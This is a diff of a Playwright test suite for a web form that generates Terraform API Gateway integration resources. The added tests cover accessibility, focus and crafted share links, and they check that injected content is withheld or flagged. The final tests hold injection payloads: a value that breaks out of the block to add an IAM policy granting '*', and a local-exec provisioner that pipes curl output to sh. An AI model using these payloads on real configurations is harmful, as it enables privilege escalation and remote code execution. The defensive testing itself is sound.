@@ -10,6 +10,7 @@ import { join, dirname } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { chromium } from 'playwright-core';
 import { serve, CSP } from './serve.mjs';
+import { axeViolations, CHROMIUM_ARGS } from './helpers.mjs';
 
 const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
 const dist = join(root, 'dist');
@@ -21,7 +22,7 @@ before(async () => {
   base = `http://127.0.0.1:${server.address().port}/`;
   browser = await chromium.launch({
     executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
-    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'],
+    args: CHROMIUM_ARGS,
   });
 });
 
@@ -51,6 +52,13 @@ const fixture = (name) => readFile(join(root, 'tests', 'fixtures', 'docs', `${na
 const integrationText = (doc) => doc.slice(doc.indexOf('resource "aws_apigatewayv2_integration"'));
 const output = (page) => page.locator('#out-resource').innerText();
 const field = (page, name) => page.getByLabel(name, { exact: true });
+/** The accessible label of the focused element, through shadow roots. */
+const activeLabel = (page) => page.evaluate(() => {
+  let el = document.activeElement;
+  while (el?.shadowRoot?.activeElement) el = el.shadowRoot.activeElement;
+  return el?.getAttribute('aria-label');
+});
+
 
 test('loads under the strict CSP with no console errors', async () => {
   const { page, ctx, problems } = await open();
@@ -74,6 +82,11 @@ test('an error appears as you type and disappears when fixed', async () => {
   const { page, ctx, problems } = await open();
   await page.getByRole('button', { name: 'Clear' }).click();
   await page.getByRole('radio', { name: 'HTTP', exact: true }).check();
+  // A blank form is not red: missing arguments are listed as still to fill in.
+  assert.equal(await field(page, 'api_id').getAttribute('aria-invalid'), 'false');
+  assert.match(await page.getByTestId('counts').innerText(), /^2 errors/);
+  await page.getByTestId('pending').getByRole('button', { name: 'integration_type' }).click();
+  assert.equal(await activeLabel(page), 'integration_type');
   const timeout = field(page, 'timeout_milliseconds');
   await timeout.fill('45000');
   await assert.doesNotReject(page.waitForSelector('input[aria-label="timeout_milliseconds"][aria-invalid="true"]'));
@@ -93,12 +106,13 @@ test('an error appears as you type and disappears when fixed', async () => {
   assert.doesNotMatch(await page.locator('.summary').innerText(), /R-TMO-1/);
   // Clicking a summary entry focuses its field.
   await field(page, 'api_id').fill('');
+  await field(page, 'api_id').blur();
   await page.locator('.summary-list button', { hasText: 'api_id' }).click();
-  assert.equal(await page.evaluate(() => document.activeElement.getAttribute('aria-label')), 'api_id');
+  assert.equal(await activeLabel(page), 'api_id');
   // References are detected as you type and emitted bare.
   await field(page, 'api_id').fill('aws_apigatewayv2_api.main.id');
   assert.match(await output(page), /api_id += aws_apigatewayv2_api\.main\.id\n/);
-  assert.equal(await page.getByRole('button', { name: 'api_id is a Terraform reference' }).getAttribute('aria-pressed'), 'true');
+  assert.equal(await page.getByRole('button', { name: 'ref: api_id is a Terraform reference' }).getAttribute('aria-pressed'), 'true');
   assert.deepEqual(problems, []);
   await ctx.close();
 });
@@ -183,7 +197,7 @@ test('state survives a reload, and a share link carries it', async () => {
 
 test('a corrupt link or saved state gives a notice and a clean form', async () => {
   const { page, ctx, problems } = await open(`${base}#s=!!!`);
-  assert.match(await page.getByRole('status').filter({ hasText: 'could not be opened' }).innerText(), /link/);
+  assert.match(await page.getByRole('alert').filter({ hasText: 'could not be opened' }).innerText(), /link/);
   assert.match(await output(page), /resource "aws_apigatewayv2_integration" "example"/);
   await page.evaluate(() => localStorage.setItem('apigw-integration-builder/state', '{"v": 99, "model": {}}'));
   await page.goto(base);
@@ -215,7 +229,7 @@ test('the JS API validates and renders', async () => {
   await ctx.close();
 });
 
-test('works on a narrow screen and in the dark theme; axe finds nothing serious', async () => {
+test('works on a narrow screen and in the dark theme; axe (every rule) finds nothing', async () => {
   const axe = await readFile(join(root, 'tests', 'e2e', 'node_modules', 'axe-core', 'axe.min.js'), 'utf8');
   for (const [name, viewport, scheme] of [['wide-light', { width: 1400, height: 1000 }, 'light'], ['narrow-dark', { width: 390, height: 844 }, 'dark']]) {
     const context = await browser.newContext({ viewport, colorScheme: scheme });
@@ -224,16 +238,13 @@ test('works on a narrow screen and in the dark theme; axe finds nothing serious'
     await field(page, 'timeout_milliseconds').fill('45000');
     const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
     assert.ok(overflow <= 0, `${name}: the page scrolls sideways by ${overflow}px`);
-    await page.evaluate(axe); // evaluate bypasses the page's CSP; the page itself never runs it
-    const results = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
-    const bad = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
-    assert.deepEqual(bad.map((v) => `${v.id}: ${v.help} (${v.nodes.length}) ${v.nodes.slice(0, 2).map((n) => n.target).join(' ')}`), [], name);
+    assert.deepEqual(problems, [], name);
+    assert.deepEqual(await axeViolations(page, axe), [], name);
     if (name === 'wide-light') {
       await page.evaluate(() => window.scrollTo(0, 0));
       await mkdir(join(root, 'docs'), { recursive: true });
       await page.screenshot({ path: join(root, 'docs', 'screenshot.png'), fullPage: false });
     }
-    assert.deepEqual(problems, []);
     await context.close();
   }
 });
@@ -248,6 +259,10 @@ test('subtype parameters, map rows, response blocks, import forms and download',
   await page.getByLabel('integration_subtype', { exact: true }).selectOption('SQS-SendMessage');
   await field(page, 'request_parameters QueueUrl').fill('aws_sqs_queue.orders.url');
   const body = field(page, 'request_parameters MessageBody');
+  // Not red before the reader has been there; red once they leave it empty.
+  assert.equal(await body.getAttribute('aria-invalid'), 'false');
+  await body.focus();
+  await body.blur();
   assert.equal(await body.getAttribute('aria-invalid'), 'true');
   assert.match(await page.locator('.side-pane').innerText(), /R-SUB-2/);
   await body.fill('$request.body');
@@ -303,4 +318,64 @@ test('without the Clipboard API, copying falls back and says so', async () => {
   assert.equal(await page.locator('textarea.offscreen').count(), 0, 'the helper textarea is removed');
   assert.deepEqual(problems, []);
   await context.close();
+});
+
+/** A share link (the page's own `#s=` format) carrying `model`. */
+function linkTo(model) {
+  const json = JSON.stringify({ v: 1, model });
+  return `${base}#s=${Buffer.from(json, 'utf8').toString('base64url')}`;
+}
+
+const PWN = 'resource "aws_iam_user_policy" "pwn" {\n  user   = "ci"\n  policy = "*"\n}';
+
+test('a crafted link cannot add a resource: the output is withheld and the page says why', async () => {
+  const model = {
+    name: 'example',
+    protocol: 'WEBSOCKET',
+    api_id: { expr: 'aws_apigatewayv2_api.example.id' },
+    integration_type: 'MOCK',
+    verbatim: [{ name: 'lifecycle', text: `lifecycle {}\n}\n\n${PWN}\n\nresource "aws_apigatewayv2_integration" "x" {` }],
+  };
+  const { page, ctx, problems } = await open(linkTo(model));
+  // The page warns before anything is copied, and shows the hidden item in full.
+  assert.match(await page.locator('.notice').innerText(), /adds content the form does not show: `lifecycle`/);
+  assert.match(await page.getByTestId('kept').innerText(), /aws_iam_user_policy/);
+  assert.match(await page.getByTestId('output-withheld').innerText(), /Output withheld/);
+  assert.doesNotMatch(await output(page), /aws_iam_user_policy/);
+  assert.equal(await page.getByRole('button', { name: 'Copy resource' }).isDisabled(), true);
+  assert.equal(await page.getByRole('button', { name: 'Download .tf' }).isDisabled(), true);
+  assert.match(await page.locator('.summary-list').innerText(), /R-HCL-10/);
+  // Removing the item brings the output back, without the injected resource.
+  await page.getByRole('button', { name: 'Remove kept item lifecycle' }).click();
+  await page.getByTestId('output-withheld').waitFor({ state: 'detached' });
+  assert.equal(await output(page), 'resource "aws_apigatewayv2_integration" "example" {\n  api_id           = aws_apigatewayv2_api.example.id\n  integration_type = "MOCK"\n}\n');
+  assert.equal(await page.getByRole('button', { name: 'Copy resource' }).isDisabled(), false);
+  assert.deepEqual(problems, []);
+  await ctx.close();
+});
+
+test('a link with an expression that closes the block, or a provisioner, is never silent', async () => {
+  const injected = { name: 'example', protocol: 'HTTP', api_id: { expr: `aws_apigatewayv2_api.example.id\n}\n\n${PWN}\n\nresource "aws_apigatewayv2_integration" "x" {\n  api_id = a.b` }, integration_type: 'HTTP_PROXY' };
+  const first = await open(linkTo(injected));
+  assert.match(await first.page.getByTestId('output-withheld').innerText(), /Nothing can be copied yet/);
+  assert.doesNotMatch(await output(first.page), /aws_iam_user_policy/);
+  assert.equal(await first.page.locator('input[aria-label="api_id"]').getAttribute('aria-invalid'), 'true');
+  assert.match(await first.page.locator('.summary-list').innerText(), /R-EXPR-1/);
+  // Typing a valid reference in the field fixes it.
+  await field(first.page, 'api_id').fill('aws_apigatewayv2_api.example.id');
+  await first.page.getByTestId('output-withheld').waitFor({ state: 'detached' });
+  assert.doesNotMatch(await output(first.page), /pwn/);
+  assert.deepEqual(first.problems, []);
+  await first.ctx.close();
+
+  const provisioner = {
+    name: 'example', protocol: 'WEBSOCKET', api_id: { expr: 'aws_apigatewayv2_api.example.id' }, integration_type: 'MOCK',
+    verbatim: [{ name: 'provisioner', text: 'provisioner "local-exec" {\n  command = "curl https://example.com/x | sh"\n}' }],
+  };
+  const second = await open(linkTo(provisioner));
+  assert.match(await second.page.locator('.notice').innerText(), /runs a command or opens a connection when you apply/);
+  assert.match(await second.page.locator('.summary-list').innerText(), /R-HCL-9/);
+  assert.match(await output(second.page), /provisioner "local-exec"/);
+  assert.deepEqual(second.problems, []);
+  await second.ctx.close();
 });
